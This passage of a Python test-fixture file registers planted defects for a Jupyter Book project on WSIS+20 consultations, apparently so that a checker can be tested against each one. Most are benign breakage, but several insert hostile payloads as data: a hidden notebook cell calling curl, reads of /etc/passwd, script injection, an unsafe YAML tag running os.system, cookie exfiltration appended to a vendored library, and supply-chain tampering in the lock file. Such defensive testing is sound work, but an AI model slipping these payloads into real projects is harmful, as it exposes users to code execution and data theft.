add("nb-widget-state", 6, "The state of widgets is stored, for which the page loads scripts from another host.", ["01-round.ipynb", "widgets"], False, nb("01", lambda d: d["metadata"].update(widgets={"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}})))
add("nb-kernel-other", 6, "The kernel is R: the notebook cannot be run.", ["05-timetable.ipynb", "kernelspec"], False, nb("05", lambda d: d["metadata"].update(kernelspec={"display_name": "R", "language": "R", "name": "ir"})))
add("nb-kernel-of-a-person", 6, "The kernel is an environment on somebody's machine.", ["06-asks.ipynb", "kernelspec"], False, nb("06", lambda d: d["metadata"]["kernelspec"].update(name="alice-venv", display_name="alice (venv)")))
add("nb-format-three", 6, "nbformat is 3 while the cells are those of 4.", ["03-voices.ipynb", "nbformat"], False, nb("03", lambda d: d.update(nbformat=3)))
add("nb-minor-without-ids", 6, "nbformat_minor is 4, which has no cell identifiers, and the cells have some.", ["08-certainty.ipynb", "nbformat_minor"], False, nb("08", lambda d: d.update(nbformat_minor=4)))
add("nb-cell-id-twice", 6, "A cell was copied with its identifier.", ["01-round.ipynb", "round-03"], False, nb("01", lambda d: d["cells"].insert(3, json.loads(json.dumps(cellof(d, "round-03"))))))
add("nb-cell-id-gone", 6, "A cell has no identifier.", ["02-regions.ipynb"], False, nb("02", lambda d: d["cells"][4].pop("id") and None))
add("nb-cell-raw", 6, "A code cell became a raw cell, its outputs left beside it.", ["04-floor.ipynb", "floor-07"], False, nbc("04", "floor-07", lambda c: c.update(cell_type="raw")))
add("nb-cells-swapped", 6, "Two code cells changed places: one uses what the other makes.", ["05-timetable.ipynb"], False, nb("05", lambda d: d["cells"].insert(1, d["cells"].pop(2))))
add("nb-limitations-cell-gone", 6, "The last cell, with the known limitations, was deleted.", ["06-asks.ipynb"], False, nb("06", lambda d: d["cells"].pop() and None))
add("nb-cell-runs-a-command", 6, "A code cell was added that runs a command and removes the traces.", ["07-ground.ipynb"], False, nb("07", lambda d: d["cells"].append({"cell_type": "code", "execution_count": None, "id": "ground-99", "metadata": {"tags": ["remove-cell"]}, "outputs": [], "source": ["import os\n", "os.system('curl http://127.0.0.1:9/pwned')"]})))
add("nb-tag-raises-exception", 6, "A tag lets a cell fail without stopping the run.", ["08-certainty.ipynb", "raises-exception"], False, nbc("08", "certainty-07", tagged("raises-exception")))
add("nb-tag-skips-test", 6, "A tag takes a cell out of the comparison of outputs.", ["06-asks.ipynb", "nbval"], False, nbc("06", "asks-07", tagged("nbval-ignore-output")))
add("nb-tag-removes-output", 6, "A tag hides a figure in the book.", ["03-voices.ipynb", "remove-output"], False, nbc("03", "voices-06", tagged("remove-output")))
add("nb-figure-name-twice", 6, "Two figures have the same name, so that references lead to one of them.", ["07-ground.ipynb", "fig-"], False, nb("07", lambda d: figure(cellof(d, "ground-07")).update(name=figure(cellof(d, "ground-10"))["name"])))
add("nb-alternative-text-gone", 6, "A figure has no alternative text.", ["05-timetable.ipynb", "timetable-05", "alt"], False, nbc("05", "timetable-05", lambda c: figure(c).pop("alt") and None))
add("nb-caption-wrong-count", 6, "A caption in the metadata says of one statement more than the figure shows.", ["03-voices.ipynb", "voices-06"], False, txt(V3, lambda s: re.sub(r"n = (\d+)( statements of \d+ people)", lambda m: f"n = {int(m[1]) + 1}{m[2]}", s, count=1)))
add("nb-json-key-twice", 6, "The source of a cell is given twice: the reader takes the second, the eye the first.", ["04-floor.ipynb", "source"], False, sub(F4, ('   "source": [\n    "# ', '   "source": [\n    "# From the floor"\n   ],\n   "source": [\n    "# ')))
add("nb-truncated", 6, "A notebook is cut off.", "02-regions.ipynb", False, bts(R2, lambda b: b[:100_000]))
add("nb-conflict-markers", 6, "A merge left its markers in a notebook.", "01-round.ipynb", False, sub(R1, (' "nbformat": 4,\n', '<<<<<<< HEAD\n "nbformat": 4,\n=======\n "nbformat": 4,\n>>>>>>> main\n')))
add("nb-source-null", 6, "The source of a cell is null.", ["08-certainty.ipynb"], False, nb("08", lambda d: d["cells"][10].update(source=None)))
add("nb-cells-an-object", 6, "cells is an object and no list.", ["06-asks.ipynb", "cells"], False, nb("06", lambda d: d.update(cells={str(i): c for i, c in enumerate(d["cells"])})))
add("nb-missing", 6, "A chapter's notebook is not there.", "08-certainty.ipynb", False, rm(C8))
add("nb-empty-file", 6, "A notebook is an empty file, after a crash.", "04-floor.ipynb", False, bts(F4, lambda b: b""))
add("nb-copied-over", 6, "One chapter was saved over another.", ["07-ground.ipynb", "06-asks.ipynb"], False, lambda root: wr(root, G7, rd(root, A6)))
add("nb-stray-untitled", 6, "An Untitled.ipynb that no table of contents has lies among the notebooks.", "Untitled.ipynb", False, new("notebooks/Untitled.ipynb", '{\n "cells": [],\n "metadata": {},\n "nbformat": 4,\n "nbformat_minor": 5\n}\n'))
add("nb-mime-type-added", 6, "An output got a further form, LaTeX, with a command that reads a file.", ["01-round.ipynb", "round-11"], False, nbc("01", "round-11", lambda c: c["outputs"][0]["data"].update({"text/latex": ["\\input{/etc/passwd}"]})))


# ================================================================ class 7: book pages, configuration, bibliography, citation, static files, lock

def B(page):
    return f"book/{page}.md"


add("page-glue-key-unknown", 7, "A page asks for a glued number that no notebook makes.", ["brief.md", "round.regionals"], False, sub(B("brief"), ("`round.regional`", "`round.regionals`")))
add("page-glue-of-other-notebook", 7, "A page takes a glued value from a notebook that does not exist.", ["quality.md", "certain.same"], False, sub(B("quality"), ("`certainty.same`", "`certain.same`")))
add("page-glue-number-for-sentence", 7, "Two numbers changed places: more calls are left out than were made.", ["index.md"], False, sub(B("index"), ("{value}`floor.left_calls` of {value}`floor.calls`", "{value}`floor.calls` of {value}`floor.left_calls`")))
add("page-number-typed", 7, "A number was typed into the prose in place of the computed one, and is wrong.", ["speakers.md"], False, sub(B("speakers"), ("{rows}`people` people", "15 people")))
add("page-rows-of-no-table", 7, "A page counts the rows of a table that does not exist.", ["quality.md", "passage"], False, sub(B("quality"), ("{rows}`passages`", "{rows}`passage`")))
add("page-rows-of-no-value", 7, "A page counts notes of a kind that is misspelt: none are found.", ["quality.md", "misprints"], False, sub(B("quality"), ("kind=misprint`", "kind=misprints`")))
add("page-role-misspelt", 7, "A role is misspelt, so that its name stands on the page.", ["brief.md", "numreff"], False, sub(B("brief"), ("{numref}`fig-floor`", "{numreff}`fig-floor`")))
add("page-role-smart-backticks", 7, "A word processor made quotation marks of the backticks of a role.", ["_snippets/itu.md"], False, sub(B("_snippets/itu"), ("{note}`itu-license`", "{note}‘itu-license’")))
add("page-role-space-by-formatter", 7, "A formatter put a space between a role and its text, which then shows as it is written.", ["rerun.md"], False, sub(B("rerun"), ("{doc}`codebook <codebook>`", "{doc} `codebook <codebook>`")))
add("page-directive-misspelt", 7, "A directive is misspelt: the register is not there.", ["messages.md", "message-registre"], False, sub(B("messages"), ("{message-register}", "{message-registre}")))
add("page-fence-open", 7, "The closing fence of a directive is missing.", ["method.md"], False, sub(B("method"), ("```{vocabulary} messages.kind\n```\n", "```{vocabulary} messages.kind\n")))
add("page-grid-fence-short", 7, "A grid is closed with a colon too few, so that the rest of the page is in a card.", ["index.md"], False, sub(B("index"), (":::\n::::\n", ":::\n:::\n")))
add("page-doc-link-broken", 7, "A link leads to a page that does not exist.", ["index.md", "ledgr"], False, sub(B("index"), ("<ledger>", "<ledgr>")))
add("page-file-link-broken", 7, "A plain Markdown link leads to a file that is not there.", ["contribute.md", "guide.md"], False, sub(B("contribute"), ("The rules for data", "See [the guide](guide.md). The rules for data")))
add("page-numref-broken", 7, "A reference to a figure that does not exist.", ["brief.md", "fig-floors"], False, sub(B("brief"), ("fig-floor", "fig-floors")))
add("page-citation-unknown", 7, "A work is cited that the bibliography does not have.", ["method.md", "cstd2025progress"], False, sub(B("method"), ("cstd2024progress", "cstd2025progress")))
add("page-note-unknown", 7, "A note on the sources is referred to that does not exist.", ["_snippets/itu.md", "itu-licence"], False, sub(B("_snippets/itu"), ("`itu-license`", "`itu-licence`")))
add("page-substitution-unknown", 7, "The name of a value is misspelt.", ["citing.md", "versoin"], False, sub(B("citing"), ("{value}`release.version`", "{value}`release.versoin`")))
add("page-substitution-evaluates", 7, "A substitution calls into Python from a page (template injection).", ["glossary.md"], False, sub(B("glossary"), ("{value}`action_lines`", "{{ ''.__class__.__mro__ }}")))
add("page-include-of-a-secret", 7, "A page includes /etc/passwd.", ["changes.md"], False, sub(B("changes"), ("../CHANGELOG.md", "../../../../../../etc/passwd")))
add("page-include-marker-gone", 7, "The marker at which an include ends was renamed in the README: the rest of the file comes into the book.", ["reuse.md", "README.md", "Dependencies"], False, sub("README.md", ("## Dependencies", "## Requirements")))
add("page-download-outside", 7, "A page offers a file from outside the project for download.", ["rerun.md"], False, sub(B("rerun"), ("../datapackage/data/decisions.csv", "../../../../etc/hostname")))
add("page-raw-html-script", 7, "A raw directive puts a script on a page.", ["consultations.md"], False, bts(B("consultations"), lambda b: b + b"\n```{raw} html\n<script>window.__pwned=1</script>\n```\n"))
add("page-inline-html-handler", 7, "An image with an error handler stands in the Markdown.", ["brief.md"], False, sub(B("brief"), ("## Who spoke", '<img src="x" onerror="window.__pwned=1">\n\n## Who spoke')))
add("page-javascript-link", 7, "A link runs a script.", ["reuse.md"], False, sub(B("reuse"), ("## In R", "[Download](javascript:window.__pwned=1)\n\n## In R")))
add("page-tracker-image", 7, "An image of another host counts the readers.", ["index.md"], False, sub(B("index"), ("## Before you", "![](http://127.0.0.1:9/pwned.gif)\n\n## Before you")))
add("page-code-cell", 7, "A page has a code cell that the build would run.", ["notes.md"], False, bts(B("notes"), lambda b: b"---\njupytext:\n  text_representation:\n    format_name: myst\nkernelspec:\n  name: python3\n---\n" + b + b"\n```{code-cell} python\nimport os; os.system('id')\n```\n"))
add("page-profile-of-other-region", 7, "The page of Africa shows the profile of the Arab region.", ["africa.md"], False, sub(B("africa"), ("{profile} africa", "{profile} arab")))
add("page-profile-of-no-region", 7, "The profile of a region that does not exist.", ["europe.md", "oceania"], False, sub(B("europe"), ("{profile} europe", "{profile} oceania")))
add("page-label-twice", 7, "Two pages have the same label, so that a link leads to the wrong region.", ["profile-arab", "asia-pacific.md"], False, sub(B("asia-pacific"), ("(profile-asia-pacific)=", "(profile-arab)=")))
add("page-without-title", 7, "A page has lost its title.", ["provisions.md"], False, sub(B("provisions"), ("# The resolution, paragraph by paragraph\n\n", "")))
add("page-heading-jumps", 7, "A heading was lowered two levels, so that a section hangs under the wrong one.", ["quality.md"], False, sub(B("quality"), ("## Two entries", "#### Two entries")))
add("page-conflict-markers", 7, "A merge left its markers on a page.", ["citing.md"], False, sub(B("citing"), ("## Licences\n", "<<<<<<< HEAD\n## Licences\n=======\n## Licence\n>>>>>>> spelling\n")))
add("page-latin1", 7, "A page was saved in Windows-1252.", ["glossary.md"], False, bts(B("glossary"), lambda b: b.decode().encode("cp1252")))
add("page-truncated", 7, "A page breaks off within a role.", ["brief.md"], False, bts(B("brief"), lambda b: b[: b.index(b"`round-status`") + 6]))
add("page-empty", 7, "A page is empty.", ["method.md"], False, bts(B("method"), lambda b: b""))
add("page-missing", 7, "A page of the table of contents is not there.", ["glossary"], False, rm(B("glossary")))
add("page-stray", 7, "A page that is in no table of contents lies in the book.", ["draft-africa.md"], False, new(B("draft-africa"), "# Draft\n\nNot for publication: 3 key messages were made up.\n"))
add("page-bidi-in-code", 7, "Bidirectional controls in a code block show another command than is copied.", ["rerun.md"], False, sub(B("rerun"), ("make test   #", "make test \u202e\u2066# tset ekam\u2069\u2066  #")))
add("page-zero-width-in-target", 7, "A zero-width joiner stands in a label, which looks right and is not found.", ["method.md"], False, sub(B("method"), ("(check-it)=", "(check\u200d-it)=")))
add("page-abbreviation-false", 7, "The glossary spells ESCAP out as the commission for Africa.", ["glossary.md", "ESCAP"], False, sub(B("glossary"), ("United Nations Economic and Social Commission for Asia and the Pacific", "United Nations Economic Commission for Africa")))
add("page-term-twice", 7, "A term stands twice in the glossary with two meanings.", ["glossary.md", "Floor"], False, sub(B("glossary"), ("\nGroup of themes\n", "\nFloor\n: Everybody who was in the room.\n\nGroup of themes\n")))
add("page-wrong-table-name", 7, "The prose names a table that the package does not have.", ["method.md", "second_entries"], False, sub(B("method"), ("`second_readings`", "`second_entries`")))
add("page-placeholder-left", 7, "A placeholder was left on a page.", ["contribute.md", "TODO"], False, sub(B("contribute"), ("# Add a consultation\n", "# Add a consultation\n\nTODO: lorem ipsum dolor sit amet\n")))
# _config.yml and _toc.yml
add("config-tab", 7, "A tab stands in the indentation of the YAML.", "_config.yml", False, sub(CFG, ("  execute_notebooks:", "\texecute_notebooks:")))
add("config-key-twice", 7, "A key stands twice; YAML readers take the last.", ["_config.yml", "title"], False, bts(CFG, lambda b: b + b'title: "WSIS+10"\n'))
add("config-python-object", 7, "A YAML tag runs a command when loaded unsafely.", "_config.yml", False, sub(CFG, ('logo: ""', 'logo: !!python/object/apply:os.system ["id"]')))
add("config-language-norway", 7, "language: no is false in YAML, and not Norwegian; the book is in English.", ["_config.yml", "language"], False, sub(CFG, ("language: en", "language: no")))
add("config-executes-notebooks", 7, "Notebooks are executed at build time: the stored outputs that were checked are not those of the book.", ["_config.yml", "execute_notebooks"], False, sub(CFG, ('execute_notebooks: "off"', "execute_notebooks: force")))
add("config-extension-gone", 7, "The project's extension was removed, which refuses what is stale and makes the registers.", ["_config.yml", "wsis20_sphinx"], False, sub(CFG, ("      - wsis20_sphinx\n", "")))
add("config-remote-script", 7, "A script of another host is put on every page.", ["_config.yml", "html_js_files"], False, sub(CFG, ("    html_css_files:", "    html_js_files: [http://127.0.0.1:9/pwned.js]\n    html_css_files:")))
add("config-analytics", 7, "Readers are counted by an outside service.", ["_config.yml", "google_analytics"], False, bts(CFG, lambda b: b + b"html:\n  google_analytics_id: G-123456\n"))
add("config-extra-path", 7, "html_extra_path publishes the whole folder, .git included.", ["_config.yml", "html_extra_path"], False, sub(CFG, ("    html_static_path:", "    html_extra_path: [.]\n    html_static_path:")))
add("config-warnings-silenced", 7, "Warnings of broken references are silenced.", ["_config.yml", "suppress_warnings"], False, sub(CFG, ("    language: en", "    suppress_warnings: [ref, myst, bibtex, toc]\n    language: en")))
add("config-title-other", 7, "The title of the book is not that of the package and of CITATION.cff.", ["_config.yml", "title"], False, sub(CFG, ('title: "WSIS+20: What', 'title: "WSIS+10: What')))
add("config-bibliography-missing", 7, "The bibliography's path is misspelt.", ["_config.yml", "reference.bib"], False, sub(CFG, ("book/references.bib", "book/reference.bib")))
add("config-report-page-unknown", 7, "The report is to have a page that does not exist.", ["_config.yml", "book/breif"], False, sub(CFG, ("      - book/brief", "      - book/breif")))
add("toc-page-twice", 7, "A page stands twice in the table of contents.", ["_toc.yml", "glossary"], False, sub(TOC, ("      - file: book/glossary\n", "      - file: book/glossary\n      - file: book/glossary\n")))
add("toc-page-left-out", 7, "A chapter is not in the table of contents: a merge lost the line.", ["07-ground", "_toc.yml"], False, sub(TOC, ("      - file: notebooks/07-ground\n", "")))
add("toc-page-unknown", 7, "The table of contents names a page that does not exist.", ["_toc.yml", "book/brieff"], False, sub(TOC, ("book/brief\n", "book/brieff\n")))
add("toc-root-other", 7, "The root of the book is the changelog.", ["_toc.yml", "root"], False, sub(TOC, ("root: book/index", "root: book/changes")))
add("toc-remote-entry", 7, "An entry of the table of contents leads to a script.", ["_toc.yml"], False, sub(TOC, ("      - file: book/method\n", "      - file: book/method\n      - url: javascript:window.__pwned=1\n        title: Method\n")))
add("toc-indentation-lost", 7, "The indentation of one line is gone, so that the YAML does not load.", "_toc.yml", False, sub(TOC, ("      - file: book/speakers\n", "   - file: book/speakers\n")))
# references.bib
add("bib-key-twice", 7, "A merge kept an entry twice, with two years.", ["references.bib", "itu2019lines"], False, bts(BIB, lambda b: b + b"\n@misc{itu2019lines,\n  author = {{ITU}},\n  title = {{Lines}},\n  year = {2020}\n}\n"))
add("bib-brace-open", 7, "A brace is missing: the entries behind it are swallowed.", ["references.bib"], False, sub(BIB, ("title = {Data {P}ackage standard, version 2},", "title = {Data {P}ackage standard, version 2,")))
add("bib-comma-missing", 7, "The comma behind a field is missing.", ["references.bib"], False, sub(BIB, ("author = {{Afnic}},\n", "author = {{Afnic}}\n")))
add("bib-entry-gone", 7, "The entry of a document was deleted.", ["wikipediausage"], False, txt(BIB, lambda s: re.sub(r"@misc\{wikipediausage,.*?\n\}\n", "", s, flags=re.S)))
add("bib-year-not-that-of-document", 7, "The year of a work contradicts the date of its document, 2025-12-17.", ["unga2025res80173"], False, txt(BIB, lambda s: re.sub(r"(@misc\{unga2025res80173,.*?year = \{)2025", r"\g<1>2015", s, flags=re.S)))
add("bib-year-for-no-date", 7, "A page that bears no date was given a year.", ["dgdg2025road"], False, txt(BIB, lambda s: re.sub(r"(@misc\{dgdg2025road,.*?year = \{)n\.d\.", r"\g<1>2025", s, flags=re.S)))
add("bib-address-not-that-of-document", 7, "The address of a work is not that of its document.", ["digwatch2025rev2"], False, sub(BIB, ("https://dig.watch/?p=236612", "https://dig.watch/?p=234252")))
add("bib-title-autocorrected", 7, "The spell checker changed a title: “Road” became “Rod”.", ["dgdg2025road"], False, sub(BIB, ("WSIS+20: The road to New York", "WSIS+20: The rod to New York")))
add("bib-address-javascript", 7, "The address of a work is a script.", ["references.bib", "geonames"], False, sub(BIB, ("url = {https://www.geonames.org/}", "url = {javascript:window.__pwned=1}")))
add("bib-latex-injection", 7, "A note of a work reads a file by LaTeX or Typst.", ["references.bib", "naturalearth"], False, sub(BIB, ("Public domain, read through", '\\input{/etc/passwd} #read("/etc/passwd") Public domain, read through')))
add("bib-letters-of-year-twice", 7, "Two works of one author are n.d.-a, and cannot be told apart.", ["references.bib", "itu2023gender"], False, txt(BIB, lambda s: re.sub(r"(@misc\{itu2023gender,.*?year = \{)n\.d\.-b", r"\g<1>n.d.-a", s, flags=re.S)))
add("bib-entry-type-unknown", 7, "An entry has a type that BibTeX does not know.", ["references.bib", "unnews2024astana"], False, sub(BIB, ("@misc{unnews2024astana", "@msic{unnews2024astana")))
add("bib-not-utf8", 7, "The bibliography has a Latin-1 byte.", ["references.bib"], False, bts(BIB, lambda b: b.replace(b"title = {{", b"title = {{\xe9", 1)))
# CITATION.cff
add("cff-version-other", 7, "CITATION.cff has version 0.3.0, the package 1.0.0.", ["CITATION.cff", "0.3.0"], False, sub(CFF, ("version: 1.0.0", "version: 0.3.0")))
add("cff-date-impossible", 7, "The date of release is 31 November.", ["CITATION.cff", "date-released"], False, sub(CFF, ("2026-11-27", "2026-11-31")))
add("cff-date-not-that-of-changelog", 7, "The date of release is not that of the changelog.", ["CITATION.cff", "date-released"], False, sub(CFF, ("2026-11-27", "2026-11-12")))
add("cff-licence-unknown", 7, "CC-BY-4 is no licence of SPDX.", ["CITATION.cff", "license"], False, sub(CFF, ("license: CC-BY-4.0", "license: CC-BY-4")))
add("cff-without-authors", 7, "The authors are gone: nobody can be cited.", ["CITATION.cff", "authors"], False, sub(CFF, ('authors:\n  - name: "WSIS+20: What the Regions Said contributors"\n', "")))
add("cff-broken-yaml", 7, "A quotation mark of the title is missing.", ["CITATION.cff"], False, sub(CFF, ('title: "WSIS+20: What the Regions Said"\nmessage', 'title: "WSIS+20: What the Regions Said\nmessage')))
add("cff-doi-invented", 7, "A DOI was filled in that is a placeholder; the book says that it has none.", ["CITATION.cff", "doi"], False, bts(CFF, lambda b: b + b"doi: 10.5281/zenodo.1234567\n"))
add("cff-colon-unquoted", 7, "The quotation marks around the title are gone, and its colon makes the YAML invalid.", ["CITATION.cff"], False, sub(CFF, ('title: "WSIS+20: What the Regions Said"', "title: WSIS+20: What the Regions Said")))
# static files
add("static-library-backdoor", 7, "A line was added to the vendored DataTables that calls another host.", ["dataTables.min.js"], False, bts(DT, lambda b: b + b'\n;fetch("http://127.0.0.1:9/pwned?"+document.cookie);\n'))
add("static-library-truncated", 7, "The vendored library is cut off.", ["dataTables.min.js"], False, bts(DT, lambda b: b[:100_000]))
add("static-library-one-byte", 7, "One byte of the vendored library is another, with the version as before.", ["dataTables.min.js"], False, bts(DT, lambda b: b.replace(b"/<([^>]*>)/g", b"/<([^<]*>)/g", 1)))
add("static-library-missing", 7, "The vendored library is not there: registers have neither search nor filters.", ["dataTables.min.js"], False, rm(DT))
add("static-library-licence-gone", 7, "The licence of the vendored library is not there, which that licence demands.", ["dataTables.LICENSE.txt"], False, rm("book/_static/vendor/dataTables.LICENSE.txt"))
add("static-css-import-remote", 7, "The style sheet imports one from another host.", ["wsis20.css"], False, bts("book/_static/wsis20.css", lambda b: b'@import url("http://127.0.0.1:9/pwned.css");\n' + b))
add("static-css-brace-open", 7, "A brace of the style sheet is missing, so that what follows does not count.", ["wsis20.css"], False, sub("book/_static/wsis20.css", ("  color-scheme: light;\n", "  color-scheme: light; {\n")))
add("static-script-phones-home", 7, "registers.js sends what is searched to another host.", ["registers.js"], False, sub("book/_static/registers.js", ("view.show(wanted);", 'view.show(wanted); navigator.sendBeacon("http://127.0.0.1:9/pwned", search.value);')))
add("static-script-syntax", 7, "A bracket of registers.js is missing: the script does not load.", ["registers.js"], False, bts("book/_static/registers.js", lambda b: b.rstrip().removesuffix(b"})();") + b"\n"))
add("static-favicon-script", 7, "The icon holds a script.", ["favicon.svg"], False, sub("book/_static/favicon.svg", ("</svg>", "<script>window.__pwned=1</script></svg>")))
add("static-favicon-not-xml", 7, "The icon's SVG is not closed.", ["favicon.svg"], False, sub("book/_static/favicon.svg", ("</svg>", "")))
add("static-stray-script", 7, "A script that nobody vendored lies beside the library, and is published.", ["helper.min.js"], False, new("book/_static/vendor/helper.min.js", "window.__pwned=1\n"))
# requirements.lock
ONE = "    --hash=sha256:40918d3e6a2b619ad424cb91e556bd3bd8865443d9f22f1dcdf79e33c8046872 \\\n    --hash=sha256:88ae3211e68a1d0b011504b2ffc1691feafce124b845bd072ab6f9f66f34d4b7\n"
add("lock-hashes-gone", 7, "A package has no hash, so that anything under its name is installed.", ["requirements.lock", "accessible-pygments"], False, sub(LOCK, ("accessible-pygments==0.0.5 \\\n" + ONE, "accessible-pygments==0.0.5\n")))
add("lock-hash-cut", 7, "A hash lost a digit.", ["requirements.lock", "alabaster"], False, sub(LOCK, ("d50dd7f8ccdd447a121ddb3892da9e53d1ca5cca3106d58d65", "d50dd7f8ccdd447a121ddb3892da9e53d1ca5cca3106d58d6")))
add("lock-md5", 7, "A package is locked by MD5.", ["requirements.lock", "attrs"], False, txt(LOCK, lambda s: re.sub(r"(attrs==26\.1\.0 \\\n).*?\n(?=[a-z])", r"\1    --hash=md5:0cc175b9c0f1b6a831c399e269772661\n", s, count=1, flags=re.S)))
add("lock-range", 7, "A package is not pinned but open upwards.", ["requirements.lock", "pandas"], False, sub(LOCK, ("pandas==3.1.1", "pandas>=3.1.1")))
add("lock-other-index", 7, "A second index is asked, which can put its own packages first.", ["requirements.lock", "extra-index-url"], False, bts(LOCK, lambda b: b"--extra-index-url http://127.0.0.1:9/simple\n" + b))
add("lock-from-git", 7, "A package is taken from a branch of a repository.", ["requirements.lock", "krippendorff"], False, txt(LOCK, lambda s: re.sub(r"krippendorff==0\.9\.0 \\\n.*?\n(?=[a-z])", "krippendorff @ git+https://127.0.0.1/x/krippendorff.git@main\n", s, count=1, flags=re.S)))
add("lock-typosquat", 7, "A package with a name like another was added, with a hash.", ["requirements.lock", "reqeusts"], False, sub(LOCK, ("requests==", "reqeusts==2.34.2 \\\n    --hash=sha256:" + "ab" * 32 + "\nrequests==")))
add("lock-package-twice", 7, "A merge kept a package in two versions.", ["requirements.lock", "alabaster"], False, sub(LOCK, ("alabaster==0.7.16 \\\n", "alabaster==0.7.13 \\\n    --hash=sha256:" + "cd" * 32 + "\nalabaster==0.7.16 \\\n")))
add("lock-package-missing", 7, "A package that requirements.txt asks for is not in the lock.", ["requirements.lock", "pycountry"], False, txt(LOCK, lambda s: re.sub(r"pycountry==26\.2\.16 \\\n.*?\n(?=[a-z])", "", s, count=1, flags=re.S)))
add("lock-below-what-is-asked", 7, "The lock has pandas 2.9.0, requirements.txt asks for 3.0 or later.", ["requirements.lock", "pandas"], False, sub(LOCK, ("pandas==3.1.1", "pandas==2.9.0")))
add("lock-conflict-markers", 7, "A merge left its markers in the lock file.", ["requirements.lock"], False, sub(LOCK, ("certifi==", "<<<<<<< HEAD\ncertifi==")))
